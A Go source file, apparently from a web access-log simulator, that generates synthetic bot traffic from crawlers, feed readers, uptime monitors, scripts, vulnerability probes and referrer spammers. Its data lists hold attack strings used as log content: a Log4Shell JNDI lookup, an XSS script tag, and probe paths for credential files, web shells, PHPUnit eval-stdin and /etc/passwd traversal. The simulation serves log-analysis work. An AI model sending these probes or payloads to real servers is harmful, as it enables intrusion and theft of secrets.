package simulate

import "time"

// botKind is a way that bots behave.
type botKind uint8

const (
	botCrawler botKind = iota // says what it is, reads the site
	botFeed                   // feed readers
	botMonitor                // asks for one page, for ever
	botLibrary                // scripts: curl, Python, no agent at all
	botProbe                  // a browser's agent on attack paths: a storm of 404
	botWalker                 // a browser's agent on real pages, each from its own address, nothing else
	botSweeper                // as the walker, from one address and with assets, no referrer on them
	botSpammer                // a browser's agent and a referrer that is a lie
	numBotKinds
)

// botLines is how a kind's lines come in runs, and its part among the declared
// (the first four) or among those with browsers' agents.
var botLines = [numBotKinds]struct {
	mean, most int
	part       float64
	declared   bool
}{
	botCrawler: {40, 400, 0.62, true},
	botFeed:    {12, 60, 0.10, true},
	botMonitor: {60, 240, 0.13, true},
	botLibrary: {8, 100, 0.15, true},
	botProbe:   {60, 600, 0.55, false},
	botWalker:  {2, 12, 0.27, false},
	botSweeper: {25, 200, 0.08, false},
	botSpammer: {3, 20, 0.10, false},
}

var (
	crawlerAgents = []string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.7680.80 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
		"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
		"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.3; +https://openai.com/searchbot)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
		"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
		"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
		"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
		"Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
		"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
		"meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36",
		"CCBot/2.0 (https://commoncrawl.org/faq/)",
	}
	feedAgents = []string{
		"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 42 subscribers; like FeedFetcher-Google)",
		"Feedbin feed-id:1871234 - 17 subscribers", "NewsBlur Feed Fetcher - 9 subscribers - https://www.newsblur.com/site/812345",
		"Mozilla/5.0 (compatible; inoreader.com; 31 subscribers)", "Tiny Tiny RSS/24.04 (https://tt-rss.org/)",
		"FreshRSS/1.26.1 (Linux; https://freshrss.org)", "Miniflux/2.2.8", "NetNewsWire (RSS Reader; https://netnewswire.com/)",
	}
	monitorAgents = []string{
		"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
		"Better Stack Better Uptime Bot Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "Mozilla/5.0 (compatible; StatusCake)",
		"Uptime-Kuma/1.23.16", "Site24x7", "kube-probe/1.31", "Blackbox Exporter/0.25.0",
	}
	libraryAgents = []string{
		"", "", "python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1", "Go-http-client/2.0", "okhttp/4.12.0", "axios/1.7.9",
		"Python/3.12 aiohttp/3.11.11", "Scrapy/2.12.0 (+https://scrapy.org)", "Wget/1.21.4", "Java/17.0.9", "node-fetch/1.0", "libwww-perl/6.72",
		"Apache-HttpClient/4.5.14 (Java/17.0.9)", "python-httpx/0.28.1", "GuzzleHttp/7", "PostmanRuntime/7.43.0",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
	}
	scannerAgents = []string{
		"Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
		"${jndi:ldap://198.51.100.7:1389/a}", "Mozilla/5.0 (Windows NT 10.0) \"><script>alert(1)</script>", "Mozilla/5.0 (Nikto/2.5.0)",
	}
	probePaths = []string{
		"/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php",
		"/wp-content/plugins/hellopress/wp_filemanager.php", "/wp-includes/wlwmanifest.xml", "/phpmyadmin/index.php", "/pma/", "/admin.php",
		"/administrator/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin",
		"/actuator/health", "/actuator/env", "/server-status", "/config.json", "/.aws/credentials", "/.ssh/id_rsa", "/backup.zip", "/backup.sql",
		"/db.sql.gz", "/old/", "/test.php", "/info.php", "/shell.php", "/alfa.php", "/wso.php", "/1.php", "/owa/auth/logon.aspx", "/solr/admin/info/system",
		"/HNAP1", "/GponForm/diag_Form", "/telescope/requests", "/_ignition/health-check", "/.DS_Store", "/.vscode/sftp.json", "/api/v1/pods",
		"/?author=1", "/index.php?s=/index/\\think\\app/invokefunction", "/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/login.action",
	}
	spamReferrers = []string{
		"https://www.google.com/", "https://www.google.com/", "https://www.bing.com/", "http://free-traffic-boost.example/", "https://best-seo-offer.example/",
		"https://www.facebook.com/", "https://buttons-for-website.example/", "https://t.co/",
	}
	noise = []string{"\x16\x03\x01\x05\xa8\x01\x00", "\x03\x00\x00/*\xe0\x00\x00", "SSH-2.0-Go", "MGLNDD_203.0.113.9_443", "\x00\x0e8\x9b\xd5"}
)

// bot is one run of a bot.
type bot struct {
	kind  botKind
	agent string
	addr  string
	left  int
	page  int
	// lo and hi are the milliseconds between its lines.
	lo, hi int
	first  bool
	at     int32 // the page whose assets a sweeper takes
	item   int32
}

// startBot starts a run of n lines.
func (s *simulation) startBot(kind botKind, n int, at int64) {
	b := &bot{kind: kind, left: n, first: true, addr: s.address4(), page: s.below(len(s.site.articles)), item: -1}
	switch kind {
	case botCrawler:
		b.agent, b.addr, b.lo, b.hi = of(s.random, crawlerAgents), s.serverAddress(), 500, 12000
	case botFeed:
		b.agent, b.lo, b.hi = of(s.random, feedAgents), 600_000, 3_600_000
	case botMonitor:
		b.agent, b.lo, b.hi = of(s.random, monitorAgents), 59_000, 61_000
	case botLibrary:
		b.agent, b.lo, b.hi = of(s.random, libraryAgents), 50, 4000
	case botProbe:
		b.agent, b.lo, b.hi = s.borrowed(), 8, 250
		if s.chance(0.12) {
			b.agent = of(s.random, scannerAgents)
		}
	case botWalker:
		b.agent, b.lo, b.hi = s.borrowed(), 300, 40_000
	case botSweeper:
		b.agent, b.lo, b.hi = s.borrowed(), 20, 900
	default:
		b.agent, b.lo, b.hi = s.borrowed(), 200, 9000
	}
	s.queue.add(at, b)
}

// borrowed returns the agent of a real browser.
func (s *simulation) borrowed() string {
	switch u := s.unit(); {
	case u < 0.6:
		return s.desktops.pick(s.random).text
	case u < 0.85:
		return s.phones.pick(s.random).text
	default:
		return s.old.pick(s.random).text
	}
}

func (b *bot) act(s *simulation) int64 {
	r := s.blank(b.addr, b.agent, "HTTP/1.1")
	r.took, r.status, r.ctype = s.millis(1, 200), 200, html
	switch b.kind {
	case botCrawler, botLibrary, botWalker, botSpammer:
		b.read(s, r)
	case botFeed:
		r.path, r.bytes, r.ctype = "/feed.xml", 48012, "application/rss+xml"
		if s.chance(0.7) {
			r.status, r.bytes = 304, 0
		}
	case botMonitor:
		home := &s.site.pages[s.site.home]
		r.path, r.bytes = home.path, home.bytes
		if s.chance(0.3) {
			r.method, r.bytes = "HEAD", 0
		}
	case botProbe:
		b.probe(s, r)
	case botSweeper:
		b.sweep(s, r)
	}
	b.first = false
	s.write(byBot, r)
	if b.left--; b.left <= 0 {
		return done
	}
	return s.now + s.millis(b.lo, b.hi)
}

// read asks for a page of the site.
func (b *bot) read(s *simulation, r *request) {
	if b.kind == botCrawler && b.first {
		r.path, r.bytes, r.ctype = "/robots.txt", 412, "text/plain"
		return
	}
	b.page++
	p := &s.site.pages[s.site.articles[b.page%len(s.site.articles)]]
	switch {
	case b.kind != botWalker && s.chance(0.1):
		p = &s.site.pages[s.site.home]
	case s.chance(0.1):
		p = &s.site.pages[of(s.random, s.site.fronts)]
	case b.kind == botWalker || b.kind == botSpammer:
		p = &s.site.pages[of(s.random, s.site.articles)]
	}
	r.path, r.bytes = p.path, p.bytes
	if b.kind == botSpammer {
		r.referer = of(s.random, spamReferrers)
		if s.chance(0.2) {
			r.referer = p.url // its own page: a common trick
		}
	}
	if s.chance(0.03) {
		r.path, r.status, r.bytes = p.path+"/amp", 404, 1583
	}
	if b.kind == botWalker && s.chance(0.6) {
		b.addr, b.agent = s.address4(), s.borrowed() // a network of homes
	}
}

// probe asks for what only an attacker wants.
func (b *bot) probe(s *simulation, r *request) {
	r.path, r.status, r.bytes = of(s.random, probePaths), 404, 1583
	switch u := s.unit(); {
	case u < 0.04 && s.Format != Caddy: // Caddy does not log what is no HTTP
		r.raw, r.status, r.bytes, r.ctype = of(s.random, noise), 400, 157, ""
		r.method, r.path, r.agent = "", "", ""
	case u < 0.10:
		r.status, r.bytes = 403, 153
	case u < 0.16:
		home := &s.site.pages[s.site.home]
		r.path, r.status, r.bytes = home.path, 200, home.bytes
	case u < 0.20:
		r.method, r.status, r.bytes = "POST", 405, 157
	case u < 0.24:
		r.path, r.status, r.bytes = "/"+of(s.random, words)+".php", 301, 162
	}
}

// sweep takes pages with their assets, as a browser does but for the referrers.
func (b *bot) sweep(s *simulation, r *request) {
	shared := int32(s.site.shared)
	if b.item >= 0 && !s.site.elsewhere {
		if p := &s.site.pages[b.at]; b.item < shared || p.images[0]+b.item-shared < p.images[1] {
			i := b.item
			if i >= shared {
				i += p.images[0] - shared
			}
			a := &s.site.assets[i]
			r.path, r.bytes, r.ctype = a.path, a.bytes, a.ctype
			b.item++
			return
		}
	}
	b.at, b.item = of(s.random, s.site.articles), 0
	p := &s.site.pages[b.at]
	r.path, r.bytes = p.path, p.bytes
}

// fleet sends out bots so that they make the wanted share of the lines. Each
// line of a person or of a preview owes it a number of bots' lines, which come
// over the next hours: bots sleep less than people.
type fleet struct {
	ratio  float64 // bots' lines for one of the others
	debt   float64
	spend  float64
	kinds  choice
	period int64
}

// fleetDelay is the mean time by which bots follow the traffic of people.
const fleetDelay = 3 * time.Hour

// linesAVisit is how many lines a visit makes, about: the fleet's guess before
// there are any.
const linesAVisit = 11

func (s *simulation) addBots() {
	if s.Bots == 0 {
		return
	}
	f := &fleet{ratio: s.Bots / (1 - s.Bots), period: int64(5 * time.Second)}
	weights := make([]float64, numBotKinds)
	for k, l := range botLines {
		part := l.part * s.Mix.Scanners
		if l.declared {
			part = l.part * (1 - s.Mix.Scanners)
		}
		weights[k] = part / float64(l.mean)
	}
	f.kinds = newChoice(weights)
	f.debt = s.rhythm.at(s.now-int64(2*time.Hour)) * linesAVisit * f.ratio * fleetDelay.Hours()
	s.fleet = f
	s.queue.add(s.now, f)
}

func (f *fleet) owe() { f.debt += f.ratio }

func (f *fleet) act(s *simulation) int64 {
	due := f.debt * float64(f.period) / float64(fleetDelay)
	f.debt -= due
	f.spend += due
	for f.spend > 0 {
		kind := botKind(f.kinds.pick(s.random))
		n := s.geometric(float64(botLines[kind].mean), botLines[kind].most)
		f.spend -= float64(n)
		s.startBot(kind, n, s.now+int64(s.unit()*float64(f.period)))
	}
	return s.now + f.period
}
